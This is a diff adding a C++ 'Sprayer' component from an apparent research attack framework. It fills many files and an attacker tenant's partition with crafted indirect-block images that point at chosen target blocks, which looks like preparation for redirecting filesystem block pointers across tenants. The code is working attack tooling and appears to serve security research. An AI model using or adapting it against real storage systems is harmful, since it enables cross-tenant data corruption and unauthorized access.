@@ -1,0 +1,93 @@
+#include "attack/sprayer.hpp"
+
+#include <cstring>
+
+namespace rhsd {
+
+std::vector<std::uint8_t> Sprayer::MaliciousIndirectImage(
+    std::span<const std::uint32_t> target_blocks) {
+  RHSD_CHECK_MSG(target_blocks.size() <= fs::kPtrsPerBlock,
+                 "too many targets for one indirect block");
+  std::vector<std::uint8_t> image(kBlockSize, 0);
+  std::memcpy(image.data(), target_blocks.data(),
+              target_blocks.size() * sizeof(std::uint32_t));
+  return image;
+}
+
+StatusOr<SprayOutcome> Sprayer::spray(
+    const std::string& dir, std::uint32_t num_files,
+    std::span<const std::uint32_t> target_blocks) {
+  // Ensure the spray directory exists (the attacker process owns it).
+  if (!fs_.lookup(cred_, dir).ok()) {
+    RHSD_RETURN_IF_ERROR(fs_.mkdir(cred_, dir, 0755).status());
+  }
+
+  const std::vector<std::uint8_t> image =
+      MaliciousIndirectImage(target_blocks);
+  constexpr std::uint64_t kHoleOffset =
+      static_cast<std::uint64_t>(fs::kDirectBlocks) * kBlockSize;
+
+  SprayOutcome outcome;
+  outcome.files.reserve(num_files);
+  for (std::uint32_t i = 0; i < num_files; ++i) {
+    const std::string path = dir + "/spray-" + std::to_string(counter_++);
+    // Legacy indirect addressing, selected per file (§4.2).
+    auto ino = fs_.create(cred_, path, 0644, /*use_extents=*/false);
+    if (!ino.ok()) {
+      if (ino.status().code() == StatusCode::kResourceExhausted) break;
+      return ino.status();
+    }
+    // Writing at the 12-block hole allocates only the indirect block
+    // and the lone data block.
+    Status w = fs_.write(cred_, *ino, kHoleOffset, image);
+    if (!w.ok()) {
+      if (w.code() == StatusCode::kResourceExhausted) {
+        (void)fs_.unlink(cred_, path);
+        break;
+      }
+      return w;
+    }
+
+    SprayedFile file;
+    file.ino = *ino;
+    file.path = path;
+    RHSD_ASSIGN_OR_RETURN(file.indirect_fs_block,
+                          fs_.indirect_block_of(*ino, fs::kDirectBlocks));
+    RHSD_ASSIGN_OR_RETURN(file.data_fs_block,
+                          fs_.bmap(*ino, fs::kDirectBlocks));
+    RHSD_CHECK(file.indirect_fs_block != 0 && file.data_fs_block != 0);
+    outcome.files.push_back(std::move(file));
+    outcome.blocks_consumed += 2;  // indirect + data
+  }
+  return outcome;
+}
+
+Status Sprayer::unspray(const std::vector<SprayedFile>& files) {
+  for (const SprayedFile& f : files) {
+    // Best effort: a corrupted file may fail to unlink cleanly.
+    (void)fs_.unlink(cred_, f.path);
+  }
+  return Status::Ok();
+}
+
+StatusOr<std::uint64_t> Sprayer::SprayAttackerPartition(
+    Tenant& attacker, std::uint64_t first_slba, std::uint64_t num_blocks,
+    std::span<const std::uint32_t> target_blocks) {
+  const std::vector<std::uint8_t> image =
+      MaliciousIndirectImage(target_blocks);
+  std::uint64_t written = 0;
+  for (std::uint64_t i = 0; i < num_blocks; ++i) {
+    Status s = attacker.write_blocks(first_slba + i, image);
+    if (!s.ok()) {
+      if (s.code() == StatusCode::kResourceExhausted ||
+          s.code() == StatusCode::kOutOfRange) {
+        break;
+      }
+      return s;
+    }
+    ++written;
+  }
+  return written;
+}
+
+}  // namespace rhsd
